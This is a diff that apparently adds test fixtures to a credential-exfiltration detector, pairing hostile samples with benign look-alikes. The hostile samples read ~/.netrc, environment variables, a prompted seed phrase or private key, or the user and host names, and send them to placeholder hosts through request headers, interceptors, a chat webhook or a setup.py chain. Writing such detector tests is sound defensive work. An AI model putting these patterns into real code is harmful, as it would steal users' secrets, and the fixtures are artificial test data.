@@ -64,6 +64,41 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "    await fetch('https://a.invalid', { method: 'POST', body: text });\n  }\n};\n",
             line=3,
         ),
+        "in what a client says with each request": py(
+            "import os, requests\ns = requests.Session()\n"
+            "s.headers.update({'X-Trace': open(os.path.expanduser('~/.netrc')).read()})\ns.get('https://a.invalid')\n",
+            line=3,
+        ),
+        "in what a client was made to say": py(
+            "import httpx, pathlib\nkey = (pathlib.Path.home() / '.netrc').read_text()\n"
+            "httpx.Client(headers={'x-session': key}).get('https://a.invalid')\n",
+            line=3,
+        ),
+        "among the defaults of a client": js(
+            "const axios = require('axios'), fs = require('fs'), os = require('os');\n"
+            "axios.defaults.headers.common['x-a'] = fs.readFileSync(os.homedir() + '/.netrc', 'utf8');\n",
+        ),
+        "by what stands between a client and its servers": js(
+            "const api = require('axios').create({ baseURL: 'https://a.invalid' });\n"
+            "api.interceptors.request.use((config) => {\n"
+            "  config.headers['x-a'] = btoa(JSON.stringify(process.env));\n  return config;\n});\n",
+            line=3,
+        ),
+        "words that a form of questions asks for, in another file": Sample(
+            {
+                "app.mjs": "import inquirer from 'inquirer';\nimport { report } from './report.mjs';\n"
+                "const { words } = await inquirer.prompt([{ name: 'words', message: 'Enter your seed phrase' }]);\n"
+                "await report('restore', words);\n",
+                "report.mjs": "import got from 'got';\nexport const report = (event, note) =>\n"
+                "  got.post('https://a.invalid', { json: { event, note } });\n",
+            },
+            "block",
+            ("app.mjs", 3),
+        ),
+        "a key to a hook of a chat": py(
+            "import click, requests\nsecret = click.prompt('Private key', hide_input=True)\n"
+            "requests.post('https://discord.invalid/api/webhooks/1/a', json={'content': secret})\n",
+        ),
         "by a client that a framework gives": Sample(
             {
                 "app.py": "import os\nfrom dataclasses import dataclass\n\nfrom mail import Mail\n\n\n@dataclass\n"
@@ -78,6 +113,16 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         ),
     },
     "inventory_sent": {
+        "who sits where, in three files": Sample(
+            {
+                "setup.py": "import who, tell\ntell.note(who.here())\n",
+                "who.py": "import getpass, socket\n\n\ndef here():\n"
+                "    return {'u': getpass.getuser(), 'h': socket.gethostname()}\n",
+                "tell.py": "import requests\n\n\ndef note(what):\n    requests.post('https://a.invalid', json=what)\n",
+            },
+            "block",
+            ("who.py", 5),
+        ),
         "who asks for a price, and from where": py(
             "import getpass, platform, requests\nwho = {'user': getpass.getuser(), 'node': platform.node()}\n"
             "requests.post('https://a.invalid', json={'code': 1, 'client': who})\n",
@@ -129,6 +174,35 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "  const files = await vscode.workspace.findFiles('**/.env');\n"
             "  await fetch('https://a.invalid', { method: 'POST', body: String(files.length) });\n};\n",
         },
+        "who asks, in what a client says with each request": {
+            "app.py": "import os, requests\ns = requests.Session()\n"
+            "s.headers.update({'X-Token': open(os.path.expanduser('~/.netrc')).read()})\ns.get('https://a.invalid')\n"
+        },
+        "who asks, in what a client was made to say": {
+            "app.py": "import httpx, pathlib\nkey = (pathlib.Path.home() / '.netrc').read_text()\n"
+            "httpx.Client(headers={'authorization': key}).get('https://a.invalid')\n"
+        },
+        "who asks, among the defaults of a client": {
+            "app.js": "const axios = require('axios'), fs = require('fs'), os = require('os');\n"
+            "const key = fs.readFileSync(os.homedir() + '/.netrc', 'utf8');\n"
+            "axios.defaults.headers.common['Authorization'] = key;\naxios.defaults.baseURL = 'https://a.invalid';\n",
+        },
+        "a zone, by what stands between a client and its servers": {
+            "app.js": "const api = require('axios').create({ baseURL: 'https://a.invalid' });\n"
+            "api.interceptors.request.use((config) => {\n"
+            "  config.headers['x-a'] = btoa(JSON.stringify(process.env.ZONE));\n  return config;\n});\n",
+        },
+        "a name that a form of questions asks for, in another file": {
+            "app.mjs": "import inquirer from 'inquirer';\nimport { report } from './report.mjs';\n"
+            "const { words } = await inquirer.prompt([{ name: 'words', message: 'Enter your name' }]);\n"
+            "await report('restore', words);\n",
+            "report.mjs": "import got from 'got';\nexport const report = (event, note) =>\n"
+            "  got.post('https://a.invalid', { json: { event, note } });\n",
+        },
+        "an answer to a hook of a chat": {
+            "app.py": "import click, requests\nsecret = click.prompt('Private key', hide_input=True)\nassert secret\n"
+            "requests.post('https://discord.invalid/api/webhooks/1/a', json={'content': click.prompt('Grade')})\n",
+        },
         "a client that keeps what it is told": {
             "app.py": "import os\nfrom dataclasses import dataclass\n\nfrom mail import Mail\n\n\n@dataclass\n"
             "class Jobs:\n    mail: Mail\n\n    def run(self):\n"
@@ -139,6 +213,12 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         },
     },
     "inventory_sent": {
+        "whether somebody sits there, in three files": {
+            "setup.py": "import who, tell\ntell.note(who.here())\n",
+            "who.py": "import getpass, socket\n\n\ndef here():\n"
+            "    return {'u': getpass.getuser() == 'root', 'h': socket.gethostname() == 'localhost'}\n",
+            "tell.py": "import requests\n\n\ndef note(what):\n    requests.post('https://a.invalid', json=what)\n",
+        },
         "where an error happened": {
             "app.py": "import platform, requests\nwho = {'system': platform.system(), 'node': platform.node()}\n"
             "requests.post('https://a.invalid', json={'code': 1, 'client': who})\n"
